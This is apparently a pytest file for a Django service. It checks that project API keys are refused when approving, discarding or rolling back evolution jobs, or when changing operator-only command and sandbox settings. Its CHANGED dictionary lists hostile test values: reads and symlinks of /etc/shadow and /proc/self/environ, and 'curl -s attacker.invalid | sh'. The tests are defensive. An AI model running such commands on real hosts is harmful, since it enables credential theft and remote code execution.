"""Issue 37, points 1 and 2, replayed by a holder of a project's API key created by its owner. Before the change the
owner's key approved its own jobs (`_person()` recorded the key's creator as the one who consented), discarded and
rolled back, and PATCHed every command of an operator's target (only hot_swap and scripted_fixtures were kept): a
`trial_command` that symlinked /etc/shadow into the trial's output, or a `health_command` that a hot swap runs on the
host. Now approve, discard and rollback answer every key 403 before anything is looked up, the web buttons are the
project owners', and the commands, sandbox levels, hot_swap and scripted_fixtures are the operator's."""

import json
from io import StringIO

import pytest
from django.core.management import call_command
from rest_framework.test import APIClient

from clear.projects.services import api_key_create
from evolution.models import AuditEvent, EvolutionJob, EvolutionTarget, Iteration, ReleaseRollback
from evolution.services import evolution_target_add
from tests.evolution.fixture_repo import CONFIG, FIXED_BRANCH, fixture_repo_make, replace_edit
from tests.evolution.support import form_post, happy_entries, target_register
from tests.frontend.conftest import client_for
from tests.frontend.test_evolution_pages import HOT_SWAP, releases_made

pytestmark = pytest.mark.django_db

TARGETS = "/api/v1/evolution/targets/"
JOBS = "/api/v1/evolution/jobs/"
# What a key holder would send instead of the operator's value: each runs something of theirs, or runs it less
# contained, or on the host.
CHANGED = {
    "install_command": "sh -c 'id > /tmp/owned'",
    "test_command": "sh -c 'cat /etc/shadow'",
    "trial_command": "sh -c 'ln -s /etc/shadow {out}/s; ln -s /proc/self/environ {out}/e' {task_id}",
    "grader_command": "sh -c 'ln -s /etc/shadow {out}/grade'",
    "suite_command": "sh -c 'env'",
    "health_command": "sh -c 'curl -s attacker.invalid | sh'",
    "sandbox_levels": ["docker"],  # allowed by the server, but not the operator's choice
    "hot_swap": {**HOT_SWAP, "activator": {"kind": "process", "command": "sh -c 'id > /tmp/owned; sleep 600'"}},
    "scripted_fixtures": ["/etc/passwd"],
}
PATCH_SHA = "a" * 64


@pytest.fixture
def key_holder(project, owner):
    key = api_key_create(project=project, name="ci", created_by=owner)
    return APIClient(HTTP_AUTHORIZATION=f"Bearer {key.secret}")


@pytest.fixture
def operators_target(project, router_remote, settings):
    """What an operator registered with `manage.py evolution_target add --config FILE`, under the server's default
    minimum (bwrap): a hot swap section and a scripted fixture besides the repository's commands."""
    settings.CLEAR_EVOLUTION_MIN_SANDBOX = "bwrap"
    return evolution_target_add(operator=True, project=project, name="desk", source=str(router_remote),
                                config={**CONFIG, "hot_swap": HOT_SWAP, "scripted_fixtures": ["fix.json"]})


def _awaiting(project, target, insight) -> EvolutionJob:
    """A job whose candidate waits for a decision (the pipeline that gets it there is tested elsewhere)."""
    job = EvolutionJob.objects.create(project=project, target=target, insight=insight, backend_name="scripted",
                                      backend_config={"script": {"entries": happy_entries(replace_edit(FIXED_BRANCH))}},
                                      state="AWAITING_CONSENT", config_snapshot={"mode": "pr"})
    best = Iteration.objects.create(job=job, n=1, base_commit="b" * 40, candidate_commit="c" * 40,
                                    patch_sha256=PATCH_SHA, status=Iteration.Status.EVALUATED,
                                    verdict="PROMOTE_ELIGIBLE")
    job.best_iteration = best
    job.save(update_fields=["best_iteration"])
    return job


def _refused_person(response) -> dict:
    assert response.status_code == 403, (response.status_code, response.content[:500])
    body = response.json()
    assert body["code"] == "person_required", body
    assert "web UI" in body["message"] and "owner" in body["message"], body["message"]
    return body


# --- 1. people approve; keys never do -----------------------------------------------------------------------------

def test_no_key_approves_discards_or_rolls_back_whatever_the_id(key_holder, project, owner, outsider_project,
                                                                operators_target, refund_insight, tmp_path):
    job = _awaiting(project, operators_target, refund_insight)
    releases_made(target=operators_target, tmp_path=tmp_path)
    theirs = EvolutionTarget.objects.create(project=outsider_project, name="theirs", source="/x", config=CONFIG)
    for job_id in (job.pk, 999999, 10**30):
        _refused_person(key_holder.post(f"{JOBS}{job_id}/approve/", {"patch_sha256": PATCH_SHA}, format="json"))
        _refused_person(key_holder.post(f"{JOBS}{job_id}/approve/", {"patch_sha256": "not a hash"}, format="json"))
        _refused_person(key_holder.post(f"{JOBS}{job_id}/discard/"))
    for target_id in (operators_target.pk, theirs.pk, 999999):
        _refused_person(key_holder.post(f"{TARGETS}{target_id}/rollback/", {"to_release": "r1"}, format="json"))
    job.refresh_from_db()
    assert (job.state, job.consent_by, job.consent_at) == ("AWAITING_CONSENT", None, None)
    assert not AuditEvent.objects.filter(job=job).exists()
    assert not ReleaseRollback.objects.exists()
    # A key still starts jobs and reads them.
    assert key_holder.get(f"{JOBS}{job.pk}/").json()["state"] == "AWAITING_CONSENT"
    assert key_holder.get(f"{TARGETS}{operators_target.pk}/releases/").json()["current"] == "r2"


def test_the_schema_documents_the_403():
    from drf_spectacular.generators import SchemaGenerator

    paths = SchemaGenerator().get_schema(request=None, public=True)["paths"]
    for path in ("/api/v1/evolution/jobs/{job_id}/approve/", "/api/v1/evolution/jobs/{job_id}/discard/",
                 "/api/v1/evolution/targets/{target_id}/rollback/"):
        responses = paths[path]["post"]["responses"]
        assert "person_required" in responses["403"]["description"], responses
        assert not any(status.startswith("2") for status in responses), responses


def test_only_an_owner_approves_or_discards_on_the_job_page(project, owner, teammate, operators_target,
                                                            refund_insight):
    job = _awaiting(project, operators_target, refund_insight)
    page = f"/p/{project.slug}/evolution/jobs/{job.pk}/"
    member = client_for(teammate)
    html = member.get(page).content.decode()
    assert 'data-testid="owners-decide"' in html
    assert 'data-testid="approve-form"' not in html and 'data-testid="discard-form"' not in html
    assert member.post(f"{page}approve/", {"patch_sha256": PATCH_SHA}).status_code == 403
    assert member.post(f"{page}discard/").status_code == 403
    assert member.post(f"{page}approve/", {"patch_sha256": PATCH_SHA}, HTTP_ACCEPT="application/json") \
        .status_code == 403
    job.refresh_from_db()
    assert job.state == "AWAITING_CONSENT" and job.consent_by is None

    web = client_for(owner)
    html = web.get(page).content.decode()
    assert 'data-testid="approve-form"' in html and 'data-testid="owners-decide"' not in html
    assert web.post(f"{page}approve/", {"patch_sha256": PATCH_SHA}).status_code == 302
    job.refresh_from_db()
    assert (job.state, job.consent_by, job.consent_patch_sha256) == ("PROMOTING", owner, PATCH_SHA)
    assert AuditEvent.objects.filter(job=job, event="consented", actor=f"user:{owner.pk}").exists()

    other = _awaiting(project, EvolutionTarget.objects.create(project=project, name="other", source="/x",
                                                              config=CONFIG), refund_insight)
    assert web.post(f"/p/{project.slug}/evolution/jobs/{other.pk}/discard/").status_code == 302
    other.refresh_from_db()
    assert (other.state, other.terminal_reason) == ("CANCELLED", "discarded")


def test_only_an_owner_starts_again_over_a_candidate_awaiting_a_decision(project, owner, teammate, router_target,
                                                                         refund_insight):
    # "Start again from the live release" discards the candidate first.
    job = _awaiting(project, router_target, refund_insight)
    form = {"insight": refund_insight.pk, "restart": job.pk}
    assert client_for(teammate).post(f"/p/{project.slug}/evolution/new/", form).status_code == 403
    job.refresh_from_db()
    assert job.state == "AWAITING_CONSENT" and EvolutionJob.objects.count() == 1
    assert client_for(owner).post(f"/p/{project.slug}/evolution/new/", form).status_code == 302
    job.refresh_from_db()
    assert (job.state, job.terminal_reason) == ("CANCELLED", "discarded")
    assert EvolutionJob.objects.exclude(pk=job.pk).get().state == "QUEUED"
    # A job that has ended discards nothing: any member may start it again.
    assert client_for(teammate).post(f"/p/{project.slug}/evolution/new/", form).status_code == 302


def test_only_an_owner_rolls_back_on_the_releases_page(project, owner, teammate, operators_target, tmp_path):
    releases_made(target=operators_target, tmp_path=tmp_path)
    url = f"/p/{project.slug}/evolution/releases/"
    member = client_for(teammate)
    html = member.get(url).content.decode()
    assert 'data-testid="rollback-form"' not in html and 'data-testid="owners-roll-back"' in html
    assert member.post(f"{url}{operators_target.pk}/rollback/", {"to_release": "r1"}).status_code == 403
    assert member.post(f"{url}999999/rollback/", {"to_release": "r1"}).status_code == 403
    assert not ReleaseRollback.objects.exists()

    web = client_for(owner)
    assert 'data-testid="rollback-form"' in web.get(url).content.decode()
    # Queued for a worker (on commit, which this test's transaction never reaches): asked by the owner.
    assert web.post(f"{url}{operators_target.pk}/rollback/", {"to_release": "r1"}).status_code == 302
    rollback = ReleaseRollback.objects.get()
    assert (rollback.target, rollback.requested_by, rollback.to_release, rollback.status) == (
        operators_target, owner, "r1", "queued")


def test_the_api_keys_page_says_what_a_key_cannot_do(project, owner):
    html = client_for(owner).get(f"/p/{project.slug}/settings/api-keys/").content.decode()
    limits = html.split('data-testid="api-keys-limits"', 1)[1].split("</p>", 1)[0]
    for words in ("never approves, discards or rolls back", "owner", "commands", "sandbox_levels", "hot_swap",
                  "scripted_fixtures", "start evolution jobs and read them"):
        assert words in limits, (words, limits)


# --- 2. commands are the operator's ---------------------------------------------------------------------------------

@pytest.mark.parametrize("field", sorted(CHANGED))
def test_a_key_cannot_change_an_operator_field(key_holder, project, owner, operators_target, field):
    stored = dict(operators_target.config)
    url = f"{TARGETS}{operators_target.pk}/"
    response = key_holder.patch(url, {"config": {**stored, field: CHANGED[field]}}, format="json")
    assert response.status_code == 400, (field, response.content[:500])
    body = response.json()
    assert set(body["extra"]["fields"]) == {f"config.{field}"}, body
    assert "only the operator can set this" in body["message"]
    assert "manage.py evolution_target add/update --config FILE" in body["message"]
    # The same through the edit form, which sends the whole config back.
    page = client_for(owner).post(f"/p/{project.slug}/evolution/targets/{operators_target.pk}/", {
        "source": operators_target.source, "config": json.dumps({**stored, field: CHANGED[field]})})
    assert page.status_code == 400 and f"config.{field}" in page.content.decode()
    operators_target.refresh_from_db()
    assert operators_target.config == stored


def test_a_key_cannot_lower_the_sandbox_where_the_server_would_allow_it(key_holder, project, router_remote, settings):
    settings.CLEAR_EVOLUTION_MIN_SANDBOX = "subprocess"  # the operator opened subprocess, for their own targets
    target = evolution_target_add(operator=True, project=project, name="contained", source=str(router_remote),
                                  config={**CONFIG, "sandbox_levels": ["bwrap"]})
    url = f"{TARGETS}{target.pk}/"
    response = key_holder.patch(url, {"config": {**CONFIG, "sandbox_levels": ["subprocess"]}}, format="json")
    assert response.status_code == 400 and "config.sandbox_levels" in response.json()["extra"]["fields"], \
        response.content
    response = key_holder.patch(url, {"config": {**CONFIG, "sandbox_levels": ["bwrap", "subprocess"]}}, format="json")
    assert response.status_code == 400 and "config.sandbox_levels" in response.json()["extra"]["fields"], \
        response.content
    target.refresh_from_db()
    assert target.config["sandbox_levels"] == ["bwrap"]


def test_every_changed_operator_field_is_named_at_once(key_holder, operators_target):
    response = key_holder.patch(f"{TARGETS}{operators_target.pk}/", {"config": {**CONFIG, **CHANGED}},
                                format="json")
    assert response.status_code == 400, response.content
    assert set(response.json()["extra"]["fields"]) == {f"config.{field}" for field in CHANGED}


def test_the_stored_values_sent_back_are_fine(key_holder, project, owner, operators_target):
    stored = dict(operators_target.config)
    assert stored["sandbox_levels"] == ["bwrap", "subprocess"]  # the operator's, as given
    url = f"{TARGETS}{operators_target.pk}/"
    # As the target reads (what the edit form shows and sends), then the repository's spelling, then left out.
    for config in (stored, {**CONFIG, "hot_swap": HOT_SWAP, "scripted_fixtures": ["fix.json"]},
                   {key: value for key, value in CONFIG.items() if "command" not in key and key != "sandbox_levels"}):
        response = key_holder.patch(url, {"config": {**config, "trials": 1}}, format="json")
        assert response.status_code == 200, response.content
    operators_target.refresh_from_db()
    assert operators_target.config == {**stored, "trials": 1}
    saved = client_for(owner).post(f"/p/{project.slug}/evolution/targets/{operators_target.pk}/", {
        "source": operators_target.source, "config": json.dumps({**operators_target.config, "trials": 2})})
    assert saved.status_code == 302
    operators_target.refresh_from_db()
    assert operators_target.config == {**stored, "trials": 2}


def test_a_key_registers_with_the_repositorys_own_commands(key_holder, project, owner, roots, settings):
    settings.CLEAR_EVOLUTION_MIN_SANDBOX = "bwrap"
    remote = fixture_repo_make(roots / "own", config_overrides={"sandbox_levels": ["subprocess", "bwrap"]})
    # The host's sections are refused at once; a command or level other than the repository's once a worker has read
    # it (the target ends failed), each named.
    changed = key_holder.post(TARGETS, {"name": "own", "source": str(remote), "config": {**CONFIG, **CHANGED}},
                              format="json")
    assert changed.status_code == 400, changed.content
    assert set(changed.json()["extra"]["fields"]) == {"config.hot_swap", "config.scripted_fixtures"}
    commands = {key: value for key, value in CHANGED.items() if key not in ("hot_swap", "scripted_fixtures")}
    created, target = target_register(key_holder, {"name": "own", "source": str(remote),
                                                   "config": {**CONFIG, **commands}})
    assert created.status_code == 201 and target["state"] == "failed" and target["config"] == {}, target
    for field in commands:
        assert f"config.{field}: it comes from the repository's evolution.json" in target["state_reason"], field
    hostile = {**CONFIG, "trial_command": CHANGED["trial_command"]}
    page = form_post(client_for(owner), f"/p/{project.slug}/evolution/targets/", {
        "name": "hostile", "source": str(remote), "config": json.dumps(hostile)})
    assert page.status_code == 302
    from_page = EvolutionTarget.objects.get(name="hostile")
    assert from_page.state == "failed" and "config.trial_command" in from_page.state_reason
    assert from_page.config == {}
    EvolutionTarget.objects.all().delete()
    # Repeated as the repository has them: fine; the levels below the minimum are dropped either way.
    same, target = target_register(key_holder, {
        "name": "own", "source": str(remote),
        "config": {**CONFIG, "sandbox_levels": ["subprocess", "bwrap"], "trials": 1}})
    assert same.status_code == 201, same.content
    assert target["state"] == "ready", target
    assert target["config"]["sandbox_levels"] == ["bwrap"] and target["config"]["trials"] == 1
    # The stored (confined) levels and the repository's sent back to the target: both the same levels.
    url = f"{TARGETS}{same.json()['id']}/"
    for levels in (["bwrap"], ["subprocess", "bwrap"]):
        assert key_holder.patch(url, {"config": {**CONFIG, "sandbox_levels": levels}}, format="json") \
            .status_code == 200
    assert key_holder.patch(url, {"config": {**CONFIG, "sandbox_levels": ["docker"]}}, format="json") \
        .status_code == 400
    # Without a config the repository's evolution.json is the config, its commands included (they run only in the
    # sandbox); its levels are confined.
    left_out, target = target_register(key_holder, {"name": "plain", "source": str(remote)})
    assert left_out.status_code == 201, left_out.content
    assert target["config"]["trial_command"] == CONFIG["trial_command"]
    assert target["config"]["sandbox_levels"] == ["bwrap"]


def test_the_operators_command_still_sets_them(project, operators_target, tmp_path):
    config = {**operators_target.config, "test_command": "python -m pytest -q tests", "sandbox_levels": ["bwrap"]}
    config_file = tmp_path / "desk.json"
    config_file.write_text(json.dumps(config))
    out = StringIO()
    call_command("evolution_target", "update", "--project", project.name, "--name", "desk", "--config",
                 str(config_file), stdout=out)
    assert "Target desk" in out.getvalue()
    operators_target.refresh_from_db()
    assert operators_target.config["test_command"] == "python -m pytest -q tests"
    assert operators_target.config["sandbox_levels"] == ["bwrap"]
